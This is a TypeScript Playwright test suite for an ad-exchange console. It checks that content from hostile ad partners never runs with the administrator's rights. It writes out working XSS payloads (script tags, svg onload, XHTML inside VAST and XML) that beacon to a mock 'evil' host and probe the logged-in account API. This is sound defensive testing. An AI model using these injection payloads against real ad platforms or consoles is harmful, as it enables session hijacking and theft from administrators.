import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Page } from 'playwright-core';
import { type Values, zoneUrl } from '../exchange/exchange-room.ts';
import { type MockDsp, startMockDsp } from '../exchange/mock-dsp.ts';
import { directUrl, feedUrl, visitor, xmlRecord } from '../exchange/pop-room.ts';
import { nativeImp, requestOf } from '../exchange/rtb-room.ts';
import type { ConsoleRoom, Stored } from './console-room.ts';
import { countRequests, openDemoRoom, shownObjects } from './filled-room.ts';
import { screensOf, settled, show, unlike } from './screens.ts';

let room: ConsoleRoom;
/** Listens: whatever runs calls `/ran`, and whatever has the rights of the administrator calls `/stolen`. */
let evil: MockDsp;
/** Where the administrator is logged in. */
let page: Page;

/** A script that calls out, and calls the API as the console does. `place` says where it stood. */
const script = (place: string) => `
new Image().src = "${evil.url}/ran?${place}";
fetch("${room.url}/api/auth/account", { credentials: "include", headers: { "Bourse-Console": "1" } })
  .then((answer) => { if (answer.ok) new Image().src = "${evil.url}/stolen?${place}"; });`;

/** Markup that calls out where a text becomes HTML, or XML that a browser shows. */
const html = (place: string) =>
  `"'><img src="${evil.url}/ran?${place}"><script>${script(place)}</script><svg onload='${script(place)}'/>`;
/** The same for names, which are short. */
const name = (place: string) =>
  `"><img src="${evil.url}/ran?${place}"><svg onload="import('${evil.url}/ran?${place}')">`;
const xml = (
  place: string,
) => `<script xmlns="http://www.w3.org/1999/xhtml"><![CDATA[${script(place)}]]></script>
<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:image href="${evil.url}/ran?${place}"/><s:script><![CDATA[${script(place)}]]></s:script></s:svg>`;

const vast = (place: string) => `<?xml version="1.0"?><?xml-stylesheet href="${evil.url}/ran?${place}-style"?>
<VAST version="3.0"><Ad id="1"><InLine><AdSystem><![CDATA[${html(place)}]]></AdSystem><AdTitle><![CDATA[${html(place)}]]></AdTitle>
<Impression><![CDATA[https://pixel.example/]]></Impression><Creatives><Creative><Linear><Duration>00:00:10</Duration><MediaFiles>
<MediaFile delivery="progressive" type="video/mp4" width="640" height="360">https://a.example/f.mp4</MediaFile></MediaFiles></Linear>
</Creative></Creatives><Extensions><Extension type="x">${xml(place)}</Extension></Extensions></InLine></Ad></VAST>`;

const called = (path: '/ran' | '/stolen') => evil.calls(path).map(({ url }) => url);

/** Opens an address by itself, as people do; a download is none. */
async function open(url: string): Promise<void> {
  const tab = await page.context().newPage();
  await tab.goto(url).catch(() => undefined);
  // Whatever begins with the page has begun once a call of ours has come back.
  await tab.evaluate('1').catch(() => undefined);
  await tab.waitForLoadState('networkidle').catch(() => undefined);
  await tab.close();
}

/** Objects that hostile partners fill, each answering what calls out. */
const zones: Record<string, string> = {};

function answerAsPartners(): void {
  const bid =
    (place: string, adm: string) =>
    ({ body }: { readonly body: string }) => {
      const { id, imp } = JSON.parse(body) as { id: string; imp: readonly { readonly id: string }[] };
      const one = {
        id: name(place),
        impid: imp[0]?.id,
        price: 50,
        adm,
        crid: name(place),
        adomain: ['brand.example'],
      };
      return {
        body: JSON.stringify({ id, bidid: name(place), seatbid: [{ seat: name(place), bid: [one] }] }),
      };
    };
  evil.answer('/vast', () => ({ body: vast('vast-tag') }));
  evil.answer('/rtb-vast', bid('rtb-vast', vast('rtb-vast')));
  evil.answer('/banner', bid('banner', html('banner')));
  evil.answer(
    '/native',
    bid(
      'native',
      JSON.stringify({
        ver: '1.2',
        assets: [{ id: 1, title: { text: html('native') } }],
        link: { url: 'https://a.example/' },
      }),
    ),
  );
  evil.answer('/pop', () => ({
    body: xmlRecord(
      `<bid>0.0035</bid><url>https://a.example/</url><title><![CDATA[${html('pop')}]]></title><description><![CDATA[${html('pop')}]]></description>${xml('pop')}`,
    ),
  }));
  evil.answer('/fault', () => ({
    status: 500,
    body: html('fault'),
    headers: { 'content-type': 'text/html' },
  }));
  evil.answer('/garbage', () => ({
    body: `<html xmlns="http://www.w3.org/1999/xhtml">${xml('garbage')}</html>`,
  }));
}

async function addZones(): Promise<void> {
  const supply = { PublisherId: 1, Tmax: 5000 };
  const demand = async (path: string, wrapper: string, values: Values) =>
    (await room.add(path, wrapper, { AdvertiserId: 1, ...values })).Id;
  const tag = async (values: Values) => await room.add('ortb/vasttag', 'VastTag', { ...supply, ...values });
  const bidder = async (path: string, values: Values = {}) =>
    await demand('ortb/dsprtbep', 'DspRtbEp', { ZoneUrlUsEast: evil.url + path, ...values });
  const vastTag = async (path: string) =>
    await demand('ortb/dspvasttag', 'DspRtbEp', { FixedCpm: 9, ZoneUrlUsEast: evil.url + path });
  zones['/vast'] = zoneUrl(await tag({ Name: name('tag'), DspVastTags: [await vastTag('/vast')] }));
  zones['/rtb-vast'] = zoneUrl(await tag({ DspRtbEps: [await bidder('/rtb-vast', { VideoEnabled: 1 })] }));
  zones['/fault'] = zoneUrl(await tag({ DspVastTags: [await vastTag('/fault'), await vastTag('/garbage')] }));
  const banner = { BannerEnabled: 1 };
  zones['/banner'] = zoneUrl(
    await room.add('bannerep', 'BannerEp', { ...supply, DspRtbEps: [await bidder('/banner', banner)] }),
  );
  const feed = await room.add('xml/popfeed', 'PopFeed', {
    ...supply,
    DspPopFeeds: [await demand('xml/dsppopfeed', 'DspPopFeed', { FeedUrlUsEast: `${evil.url}/pop` })],
  });
  zones['/rtb'] = zoneUrl(
    await room.add('ortb/rtbep', 'RtbEp', {
      PublisherId: 1,
      NativeEnabled: 1,
      PublisherProfitShare: 100,
      DspRtbEps: [await bidder('/native', { NativeEnabled: 1 })],
    }),
  );
  zones['/pop'] = feedUrl(feed, visitor, 'Xml');
  zones['/pop json'] = feedUrl(feed, visitor);
  zones['/direct'] = directUrl(feed);
  zones['/test'] = await testUrl('VastTag', zones['/vast'] ?? '');
}

/** The test URL of an object whose zone URL this is. */
async function testUrl(Entity: string, zone: string): Promise<string> {
  const Id = Number(new URL(zone).searchParams.get('zone'));
  const { Url } = await room.api<{ readonly Url: string }>('/api/exchange/test', { Entity, Id });
  return Url;
}

/** Names of people and of things, labels, and what requests say of themselves. */
async function fillTexts(): Promise<void> {
  const named = {
    'ortb/vasttag': 'VastTag',
    'ortb/dsprtbep': 'DspRtbEp',
    'ortb/dspvasttag': 'DspRtbEp',
    publisher: 'Publisher',
    advertiser: 'Advertiser',
    domainlist: 'DomainList',
    report: 'Report',
    alert: 'Alert',
  };
  for (const [path, wrapper] of Object.entries(named))
    await room.api(`/api/${path}/update`, { [wrapper]: { Id: 1, Name: name(wrapper) } });
  await room.api('/api/ortb/dsprtbep/update', {
    DspRtbEp: { Id: 1, ZoneUrlUsEast: `${evil.url}/rtb-vast`, Countries: [], Status: 0 },
  });
  await room.api('/api/ortb/dsprtbep/update', {
    DspRtbEp: { Id: 2, ZoneUrlUsEast: `${evil.url}/fault`, Countries: [], Status: 0 },
  });
  await room.api('/api/auth/user/update', { Id: 1, FirstName: name('user').slice(0, 90) });
  await countRequests(room);
  const said = {
    site_url: `https://news.example/${html('site')}`,
    subid: html('subid'),
    ua: html('ua'),
    app_name: html('app'),
  };
  const offered = await fetch(zones['/rtb'] ?? '', {
    method: 'POST',
    body: JSON.stringify(requestOf([nativeImp])),
  });
  assert.equal(offered.status, 200, 'the native ad is offered');
  for (const url of [
    zones['/vast'] ?? '',
    zones['/banner'] ?? '',
    zones['/pop'] ?? '',
    zones['/fault'] ?? '',
  ])
    await fetch(`${url}&${new URLSearchParams(said)}`);
}

before(async () => {
  room = await openDemoRoom({ allowPrivateDemand: true });
  evil = await startMockDsp();
  answerAsPartners();
  await addZones();
  await fillTexts();
  ({ page } = await room.visit('/', { userAgent: `Mozilla/5.0 ${'<script>'}` }));
});
after(async () => {
  await room?.close();
  await evil?.close();
});

describe('nothing that a stranger fills runs with the rights of the console, or calls out of it', () => {
  test('control: the same texts call out where nothing keeps them from it', async () => {
    for (const [path, type, body] of [
      ['/open.xml', 'application/xml', vast('control-xml')],
      ['/open.html', 'text/html', `<p title="${html('control-html')}">`],
      ['/name.html', 'text/html', `<p title="${name('control-name')}">`],
    ] as const) {
      evil.answer(path, () => ({ body, headers: { 'content-type': type } }));
      await open(evil.url + path);
    }
    for (const place of ['control-xml', 'control-html', 'control-name'])
      assert.ok(called('/ran').includes(`/ran?${place}`), place);
  });

  test('control: what such a script asks of the API is answered in the origin of the console', async () => {
    const status = `fetch('/api/auth/account', { headers: { 'Bourse-Console': '1' } }).then(({ status }) => status)`;
    assert.equal(await page.evaluate(status), 200);
  });

  test('URLs of delivery and of tests, opened by who is logged in to the console', async () => {
    const before = called('/ran');
    for (const [what, url] of Object.entries(zones)) {
      if (['/direct', '/banner', '/rtb'].includes(what)) continue;
      await open(url);
    }
    assert.deepEqual(called('/ran').slice(before.length), []);
  });

  test('a banner, which may run, has none of these rights', async () => {
    const stolen = called('/stolen');
    await open(zones['/banner'] ?? '');
    assert.ok(called('/ran').includes('/ran?banner'), 'banners are there to run');
    assert.deepEqual(called('/stolen').slice(stolen.length), []);
  });

  test('every screen of the console', { timeout: 300_000 }, async () => {
    const before = called('/ran');
    const screens = unlike(await screensOf(page, room.url, await shownObjects(room)));
    for (const screen of screens) await show(page, screen, room.url);
    assert.deepEqual(called('/ran').slice(before.length), []);
  });

  test('the tests, the auctions and the reasons of each hostile object', { timeout: 120_000 }, async () => {
    const before = called('/ran');
    for (const [entity, zone] of [
      ['VastTag', zones['/vast']],
      ['VastTag', zones['/rtb-vast']],
      ['VastTag', zones['/fault']],
      ['BannerEp', zones['/banner']],
      ['RtbEp', zones['/rtb']],
    ] as const) {
      const id = new URL(zone ?? '').searchParams.get('zone');
      await page.goto(`${room.url}/console/${entity}/${id}/test`);
      await page.getByRole('button', { name: 'Run a test' }).click();
      await page.getByRole('heading', { name: 'Calls to demand' }).waitFor();
      await settled(page);
      for (const part of ['why', 'auctions', 'history']) {
        await page.goto(`${room.url}/console/${entity}/${id}/${part}`);
        await settled(page);
      }
    }
    assert.deepEqual(called('/ran').slice(before.length), []);
  });

  test('reports and lists as files, and what the API answers', async () => {
    const before = called('/ran');
    const [feed] = await room.api<readonly Stored[]>('/api/xml/popfeed/get');
    const [tag] = await room.api<readonly Stored[]>('/api/ortb/vasttag/get');
    const files = [feed, tag].flatMap((object) =>
      Object.entries(object ?? {})
        .filter(([field]) => field.startsWith('StatsBy'))
        .map(([, url]) => String(url)),
    );
    assert.ok(files.length >= 4, files.join());
    const answers = ['ortb/vasttag/get', 'report/get', 'exchange/auctions', 'history/get', 'openapi.json'];
    for (const url of [
      ...files.map((file) => file.replace(/\{date_(from|to)\}/g, '')),
      ...answers.map((path) => `${room.url}/api/${path}`),
    ])
      await open(url);
    assert.deepEqual(called('/ran').slice(before.length), []);
  });

  test('none of all these had the rights of the console', () => {
    assert.deepEqual(called('/stolen'), []);
  });
});
